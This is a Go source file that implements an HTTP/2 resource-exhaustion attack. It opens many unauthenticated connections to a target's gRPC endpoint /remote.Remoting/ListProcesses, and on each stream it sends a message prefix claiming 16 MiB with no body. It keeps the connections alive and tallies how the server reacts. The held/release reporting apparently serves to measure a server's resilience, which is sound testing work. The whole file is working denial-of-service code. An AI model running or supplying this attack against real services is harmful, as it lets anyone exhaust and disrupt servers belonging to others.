package main

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// claimed is what each HTTP/2 stream's gRPC message prefix says its body
// holds.
const claimed = 16 << 20

// h2Attack opens ceil(streams/perConn) connections to addr, each an
// HTTP/2 client with no credentials: the preface, a SETTINGS frame, then
// perConn streams, each a POST to /remote.Remoting/ListProcesses
// (content-type application/grpc) whose first DATA frame is a 5-byte gRPC
// prefix claiming a 16 MiB message and nothing more. The connections
// answer SETTINGS and PING and count what the server does. held says what
// was put in place; release closes everything and says what the server
// did meanwhile.
func h2Attack(addr string, streams, perConn int) (held string, release func() string) {
	var (
		wg                        sync.WaitGroup
		mu                        sync.Mutex
		conns                     []net.Conn
		opened, sent, dialFailed  atomic.Int64
		closedByServer, resets    atomic.Int64
		goaways                   atomic.Int64
		firstClose                atomic.Int64 // ns since start
		start                     = time.Now()
		nconns                    = (streams + perConn - 1) / perConn
		writeErrs                 atomic.Int64
		releasing                 atomic.Bool
		firstWriteErr, firstRdErr error
	)
	for i := range nconns {
		n := min(perConn, streams-i*perConn)
		c, err := net.DialTimeout("tcp", addr, 5*time.Second)
		if err != nil {
			dialFailed.Add(1)
			continue
		}
		rst(c)
		opened.Add(1)
		mu.Lock()
		conns = append(conns, c)
		mu.Unlock()
		var wmu sync.Mutex // the framer's writes: this loop and the reader's acks
		fr := http2.NewFramer(c, c)
		wg.Add(1)
		go func() { // the reader
			defer wg.Done()
			for {
				f, err := fr.ReadFrame()
				if err != nil {
					if !releasing.Load() {
						closedByServer.Add(1)
						firstClose.CompareAndSwap(0, int64(time.Since(start)))
						mu.Lock()
						if firstRdErr == nil && !errors.Is(err, io.EOF) {
							firstRdErr = err
						}
						mu.Unlock()
					}
					return
				}
				wmu.Lock()
				switch f := f.(type) {
				case *http2.SettingsFrame:
					if !f.IsAck() {
						_ = fr.WriteSettingsAck()
					}
				case *http2.PingFrame:
					if !f.IsAck() {
						_ = fr.WritePing(true, f.Data)
					}
				case *http2.RSTStreamFrame:
					resets.Add(1)
				case *http2.GoAwayFrame:
					goaways.Add(1)
				}
				wmu.Unlock()
			}
		}()
		_ = c.SetWriteDeadline(time.Now().Add(5 * time.Second))
		wmu.Lock()
		err = writeStreams(c, fr, addr, n, &sent)
		wmu.Unlock()
		if err != nil {
			writeErrs.Add(1)
			mu.Lock()
			if firstWriteErr == nil {
				firstWriteErr = err
			}
			mu.Unlock()
		}
	}
	held = fmt.Sprintf("%d of %d streams sent on %d of %d conns", sent.Load(), streams, opened.Load(), nconns)
	return held, func() string {
		releasing.Store(true)
		mu.Lock()
		for _, c := range conns {
			_ = c.Close()
		}
		mu.Unlock()
		done := make(chan struct{})
		go func() { wg.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
		}
		s := fmt.Sprintf("closed %d of %d conns", closedByServer.Load(), opened.Load())
		if fc := firstClose.Load(); fc > 0 {
			s += fmt.Sprintf(" (first after %.2f s)", time.Duration(fc).Seconds())
		}
		s += fmt.Sprintf(", %d RST_STREAM, %d GOAWAY", resets.Load(), goaways.Load())
		if dialFailed.Load() > 0 {
			s += fmt.Sprintf(", %d dials failed", dialFailed.Load())
		}
		mu.Lock()
		if writeErrs.Load() > 0 {
			s += fmt.Sprintf(", %d conns' writes failed (%v)", writeErrs.Load(), firstWriteErr)
		}
		if firstRdErr != nil {
			s += fmt.Sprintf(", read: %v", firstRdErr)
		}
		mu.Unlock()
		return s
	}
}

// writeStreams writes the client preface, SETTINGS, and n streams.
func writeStreams(c net.Conn, fr *http2.Framer, addr string, n int, sent *atomic.Int64) error {
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return fmt.Errorf("preface: %w", err)
	}
	if err := fr.WriteSettings(); err != nil {
		return fmt.Errorf("settings: %w", err)
	}
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	prefix := make([]byte, 5) // uncompressed, then the length
	binary.BigEndian.PutUint32(prefix[1:], claimed)
	for i := range n {
		id := uint32(2*i + 1)
		hb.Reset()
		for _, f := range []hpack.HeaderField{
			{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"},
			{Name: ":path", Value: "/remote.Remoting/ListProcesses"}, {Name: ":authority", Value: addr},
			{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
		} {
			if err := enc.WriteField(f); err != nil {
				return fmt.Errorf("hpack: %w", err)
			}
		}
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true}); err != nil {
			return fmt.Errorf("stream %d headers: %w", id, err)
		}
		if err := fr.WriteData(id, false, prefix); err != nil {
			return fmt.Errorf("stream %d data: %w", id, err)
		}
		sent.Add(1)
	}
	return nil
}
